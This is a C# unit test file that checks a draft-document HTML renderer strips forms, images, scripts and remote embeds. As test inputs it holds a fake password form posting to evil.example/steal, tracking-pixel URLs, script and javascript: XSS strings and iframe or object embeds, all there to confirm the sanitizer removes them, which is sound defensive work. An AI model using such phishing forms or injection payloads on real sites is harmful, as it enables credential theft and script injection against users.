using FocWorkflows.Server.Deliberation.Drafts;

namespace FocWorkflows.Server.Tests.Deliberation.Drafts;

/// <summary>A draft is read, never filled in, and reading it tells nobody who reads it: no forms, no images.</summary>
public sealed class DraftHtmlTests
{
    private const string PasswordForm = """
        Please confirm your delegation.

        <form action="https://evil.example/steal" method="post"><label for="p">Password</label><input type="password" name="p" id="p">
        <select name="s"><option value="1">One</option></select><textarea name="t">Hi</textarea><button type="submit">Send</button></form>
        """;

    private static readonly string[] FormMarkup =
        ["<form", "<input", "<button", "<select", "<option", "<textarea", "<label", "evil.example", "name=", "method=", "action="];

    [Fact]
    public void Render_PasswordForm_KeepsNoFormControl()
    {
        var html = DraftHtml.Render(PasswordForm);

        Assert.All(FormMarkup, markup => Assert.DoesNotContain(markup, html, StringComparison.OrdinalIgnoreCase));
        Assert.Contains("Please confirm your delegation.", html);
    }

    [Fact]
    public void RenderNumbered_WholeDraftWithAForm_KeepsNoFormControl()
    {
        var html = DraftHtml.RenderNumbered(Paragraphs.Of("# Title\n\n" + PasswordForm));

        Assert.All(FormMarkup, markup => Assert.DoesNotContain(markup, html, StringComparison.OrdinalIgnoreCase));
        Assert.Contains("<h1>Title</h1>", html);
    }

    [Fact]
    public void Redline_FormAddedAndFormEditedInPlace_KeepsNoFormControl()
    {
        var before = Paragraphs.Of("Intro.\n\n<form action=\"https://evil.example/a\"><input name=\"a\"></form>");
        var after = Paragraphs.Of("Intro.\n\n<form action=\"https://evil.example/b\"><input name=\"b\"><button>Go</button></form>\n\n" + PasswordForm);

        var redline = Redline.Between(before, after);

        Assert.All(FormMarkup, markup => Assert.DoesNotContain(markup, redline.Html, StringComparison.OrdinalIgnoreCase));
        Assert.Contains(redline.Changes, c => c.Kind == ParagraphChangeKind.Added);
    }

    [Theory]
    [InlineData("![Map of the region](https://tracker.example/pixel.png)", "Map of the region")]
    [InlineData("<img src=\"https://tracker.example/pixel.png\" alt=\"Logo\">", "Logo")]
    [InlineData("<img src=\"//tracker.example/pixel.png\">", "")]
    [InlineData("<img src=\"/api/instances\" alt=\"Local\">", "Local")]
    [InlineData("<img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=\"Inline\">", "Inline")]
    [InlineData("<img srcset=\"https://tracker.example/a.png 1x\" alt=\"Set\">", "Set")]
    public void Render_AnyImage_LoadsNothingAndKeepsItsText(string markdown, string text)
    {
        var html = DraftHtml.Render(markdown);

        Assert.DoesNotContain("<img", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("tracker.example", html);
        Assert.DoesNotContain("src=", html);
        if (text.Length > 0) Assert.Contains(text, html);
    }

    [Fact]
    public void Render_ImageWithScriptInItsText_KeepsTheTextAsText()
    {
        var html = DraftHtml.Render("<img src=\"x\" alt=\"<script>alert(1)</script>\">");

        Assert.DoesNotContain("<script", html, StringComparison.OrdinalIgnoreCase);
        Assert.Contains("&lt;script&gt;", html);
    }

    [Theory]
    [InlineData("<script>alert(1)</script>Hello", "<script")]
    [InlineData("<a href=\"javascript:alert(1)\">x</a>", "javascript:")]
    [InlineData("<p onmouseover=\"alert(1)\">x</p>", "onmouseover")]
    [InlineData("<iframe src=\"https://evil.example\"></iframe>", "<iframe")]
    [InlineData("<p style=\"background:url(https://tracker.example/x)\">x</p>", "tracker.example")]
    [InlineData("<video poster=\"https://tracker.example/p.png\"></video>", "tracker.example")]
    [InlineData("<svg><image href=\"https://tracker.example/p.png\"/></svg>", "tracker.example")]
    [InlineData("<object data=\"https://evil.example/x.swf\"></object>", "evil.example")]
    public void Render_ActiveOrRemoteMarkup_IsRemoved(string markdown, string forbidden)
    {
        var html = DraftHtml.Render(markdown);

        Assert.DoesNotContain(forbidden, html, StringComparison.OrdinalIgnoreCase);
    }

    [Fact]
    public void Render_OrdinaryDraftMarkup_IsKept()
    {
        var html = DraftHtml.Render("Read **the** [mandate](https://foc.example/mandate) and <ins>this</ins> <del>that</del>.\n\n| a | b |\n|---|---|\n| 1 | 2 |");

        Assert.Contains("<strong>the</strong>", html);
        Assert.Contains("<a href=\"https://foc.example/mandate\">mandate</a>", html);
        Assert.Contains("<ins>this</ins>", html);
        Assert.Contains("<del>that</del>", html);
        Assert.Contains("<table>", html);
    }
}
